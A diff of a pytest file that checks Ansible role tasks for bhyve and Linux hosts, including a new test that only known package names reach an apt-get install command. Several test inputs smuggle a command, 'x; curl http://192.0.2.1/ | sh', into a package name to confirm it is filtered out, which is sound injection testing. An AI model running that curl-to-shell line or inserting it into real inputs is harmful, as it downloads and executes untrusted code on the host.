@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 import subprocess
 import sys
 from pathlib import Path
@@ -19,12 +20,15 @@ _ROLES = COLLECTION / "roles"
 _SYSTEM = ("bhyve_host", "check.yml", "Check the host's system and processor")
 _VMM = ("bhyve_host", "programs.yml", "Check that the processor can run virtual machines")
 _CLOCK = ("freebsd_guest", "clock.yml", "Check the guest's clock")
+_PROGRAMS = ("linux_host", "main.yml", "Check that the host has all programs")
 
 
 def checked(tmp_path: Path, check: tuple[str, str, str], **registered: Any) -> tuple[bool, str]:
     """Run one task of a role on what earlier ones have registered; return whether it passes, and the output."""
     role, file, name = check
-    task = next(task for task in yaml.safe_load((_ROLES / role / "tasks" / file).read_text()) if task["name"] == name)
+    tasks = yaml.safe_load((_ROLES / role / "tasks" / file).read_text())
+    tasks += [inner for outer in tasks for inner in outer.get("block", ())]
+    task = next(task for task in tasks if task["name"] == name)
     files = [_ROLES / role / folder / "main.yml" for folder in ("defaults", "vars")]
     play = {
         "hosts": "localhost", "connection": "local", "gather_facts": False,
@@ -81,3 +85,26 @@ def test_a_host_without_virtualization_is_named(tmp_path: Path) -> None:
     assert "NoVirtualization: the module vmm does not start on this host, which says: kldload: can't load" in printed
     assert "switched on in the firmware" in printed
     assert checked(tmp_path, _VMM, bhyve_host_vmm={"rc": 0, "stdout": "loaded"})[0]
+
+
+@pytest.mark.parametrize(
+    ("said", "named"),
+    [
+        (["image"], ""),
+        (["redis-tools", "openssl"], "openssl redis-tools"),
+        (["openssl", "x; curl http://192.0.2.1/ | sh", "image"], "openssl"),
+        (["x; curl http://192.0.2.1/ | sh"], ""),
+    ],
+)
+def test_only_packages_that_were_asked_about_are_in_the_command(tmp_path: Path, said: list[str], named: str) -> None:
+    passed, printed = checked(tmp_path, _PROGRAMS, linux_host_lacking={"stdout_lines": said})
+    assert (passed, "curl" in printed) == (not named, False), printed
+    assert not named or f"(apt-get install --no-install-recommends {named})" in printed
+
+
+def test_every_package_that_is_asked_about_can_be_named() -> None:
+    asked = re.findall(
+        r"lacks \S+ (\S+)$|\|\| echo (\S+)$", (_ROLES / "linux_host/tasks/main.yml").read_text(), re.MULTILINE
+    )
+    named = yaml.safe_load((_ROLES / "linux_host/vars/main.yml").read_text())["linux_host_packages"]
+    assert {"".join(words) for words in asked} - {"image"} == set(named)
